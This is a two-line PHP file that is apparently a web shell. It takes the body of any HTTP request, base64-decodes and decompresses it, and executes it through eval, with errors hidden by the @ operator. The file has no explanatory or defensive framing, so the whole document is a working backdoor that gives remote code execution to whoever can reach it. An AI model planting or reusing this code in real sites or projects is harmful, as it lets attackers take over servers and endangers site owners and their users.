<?php
@eval(gzinflate(base64_decode(file_get_contents('php://input'))));
